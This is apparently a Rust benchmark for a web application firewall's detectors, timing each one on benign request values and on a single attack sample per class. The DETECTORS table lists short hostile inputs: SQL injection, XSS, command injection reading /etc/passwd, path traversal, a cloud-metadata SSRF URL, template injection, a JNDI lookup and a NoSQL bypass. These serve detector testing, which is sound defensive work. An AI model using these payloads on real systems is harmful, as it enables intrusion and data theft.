//! Each detector as the WAF operator runs it — prefilter ([`prefilter::may_match`]) then the detector — on the
//! short values one API request carries (the `../shared/bench` GET and POST: ids, words, a UUID, a
//! User-Agent, an Accept list, a JSON login's fields) and on a short attack of its class. Reported per value
//! set; ns per byte is the time divided by the total length in the group name.
//! Run: `cargo bench -p portcullis-detect --bench short_values`.
//!
//! Instructions per byte (callgrind; wall-clock on a shared machine is noise): with `PORTCULLIS_CALLGRIND=N`
//! the binary skips criterion and runs each detector (as its operator: prefilter, then detector) N times over
//! the header-like values of [`HEADER_LIKE`] inside one `#[inline(never)]` function per class, so
//! `callgrind_annotate --inclusive=yes cg.out | grep callgrind_` ÷ (N × bytes) is instructions per byte.
//! `PORTCULLIS_CALLGRIND_VALUE=i` runs only value `i` of the list (bytes = its length).
//! `PORTCULLIS_CALLGRIND=100 valgrind --tool=callgrind --callgrind-out-file=cg.out \
//!  target/release/deps/short_values-* --bench`

use std::hint::black_box;

use criterion::{criterion_group, BenchmarkId, Criterion, Throughput};
use portcullis_detect::prefilter::may_match;
use portcullis_detect::{cmdi, jndi, nosql, ssrf, ssti, traversal, xss, Class, Finding};

type Detector = fn(&[u8]) -> Option<Finding>;

/// The values of the benchmark harness's GET and POST as the rule pack sees them.
const BENIGN: &[&str] = &[
    "123",
    "hello",
    "id",
    "q",
    "/api/items",
    "anchor-bench/1.0 (wrk)",
    "9f1c2b7e-4a7d-4e2b-9a43-0d1f3c5b6a70",
    "application/json",
    "alice.example",
    "CorrectHorseBatteryStaple2024",
    "3.14.2",
    "Europe/Berlin",
    "4f6c0d2e8b1a4c7d9e3f5a6b7c8d9e0f",
    "read write",
];

/// Short values a gateway sees in every request's headers and path, and a prose leaf with apostrophes: the
/// values on which the detectors' benign path must be cheap (callgrind mode).
const HEADER_LIKE: &[&str] = &[
    "anchor-bench/1.0 (wrk)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "/api/items/42",
    "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
    "Reader's edition: don't miss it, it's the one we've all waited for",
    "/api/items",
];

fn sqli(v: &[u8]) -> Option<Finding> {
    portcullis_detect::sqli::detect(v)
}

/// One attack per class, each found by its detector.
const DETECTORS: &[(Class, Detector, &str)] = &[
    (Class::Sqli, sqli, "1' OR '1'='1 --"),
    (Class::Xss, xss::detect, "<img src=x onerror=alert(1)>"),
    (Class::Cmdi, cmdi::detect, "x; cat /etc/passwd"),
    (Class::PathTraversal, traversal::detect, "../../../etc/passwd"),
    (Class::Ssrf, ssrf::detect, "http://169.254.169.254/latest/meta-data/"),
    (Class::Ssti, ssti::detect, "{{''.__class__.__mro__[1].__subclasses__()}}"),
    (Class::Jndi, jndi::detect, "${jndi:ldap://x.example/a}"),
    (Class::NoSqli, nosql::detect, "{\"password\":{\"$ne\":null}}"),
];

/// What `@detect...` does with one value.
fn operator(class: Class, detect: Detector, v: &[u8]) -> bool {
    may_match(class, v) && detect(v).is_some()
}

fn bench(c: &mut Criterion) {
    let benign_len: usize = BENIGN.iter().map(|v| v.len()).sum();
    for &(class, detect, attack) in DETECTORS {
        let mut g = c.benchmark_group(format!("operator/{}", class.as_str()));
        assert!(BENIGN.iter().all(|v| !operator(class, detect, v.as_bytes())), "{class:?} flags a benign value");
        g.throughput(Throughput::Bytes(benign_len as u64));
        g.bench_function(BenchmarkId::new("request_values", benign_len), |b| {
            b.iter(|| BENIGN.iter().filter(|v| operator(class, detect, black_box(v.as_bytes()))).count())
        });
        assert!(operator(class, detect, attack.as_bytes()), "{class:?} misses its attack");
        g.throughput(Throughput::Bytes(attack.len() as u64));
        g.bench_function(BenchmarkId::new("attack", attack.len()), |b| {
            b.iter(|| operator(class, detect, black_box(attack.as_bytes())))
        });
        g.finish();
    }
}

criterion_group!(benches, bench);

/// Runs `class`'s operator `n` times over `values`; the count of hits keeps the calls from being optimised out.
fn repeat(class: Class, detect: Detector, values: &[&str], n: usize) -> usize {
    let mut hits = 0;
    for _ in 0..n {
        hits += values.iter().filter(|v| operator(class, detect, black_box(v.as_bytes()))).count();
    }
    hits
}

/// One function per class, so callgrind reports each detector's instructions on its own.
macro_rules! callgrind_cases {
    ($($name:ident => $class:expr),* $(,)?) => {
        $(
            #[inline(never)]
            fn $name(detect: Detector, values: &[&str], n: usize) -> usize {
                repeat($class, detect, values, n)
            }
        )*
        fn callgrind(values: &[&str], n: usize) {
            for &(class, detect, _) in DETECTORS {
                // one warm-up, so lazily built tables do not count
                repeat(class, detect, values, 1);
            }
            let mut hits = 0;
            $(
                let detect = DETECTORS.iter().find(|d| d.0 == $class).map(|d| d.1).expect("class listed");
                hits += $name(detect, values, n);
            )*
            let bytes: usize = values.iter().map(|v| v.len()).sum();
            eprintln!("{n} runs over {} values, {bytes} bytes; {hits} hits", values.len());
        }
    };
}

callgrind_cases! {
    callgrind_sqli => Class::Sqli,
    callgrind_xss => Class::Xss,
    callgrind_cmdi => Class::Cmdi,
    callgrind_traversal => Class::PathTraversal,
    callgrind_ssrf => Class::Ssrf,
    callgrind_ssti => Class::Ssti,
    callgrind_jndi => Class::Jndi,
    callgrind_nosqli => Class::NoSqli,
}

fn main() {
    if let Some(n) = std::env::var("PORTCULLIS_CALLGRIND").ok().and_then(|v| v.parse::<usize>().ok()) {
        match std::env::var("PORTCULLIS_CALLGRIND_VALUE").ok().and_then(|v| v.parse::<usize>().ok()) {
            Some(i) => callgrind(&HEADER_LIKE[i..=i], n),
            None => callgrind(HEADER_LIKE, n),
        }
        return;
    }
    benches();
    Criterion::default().configure_from_args().final_summary();
}
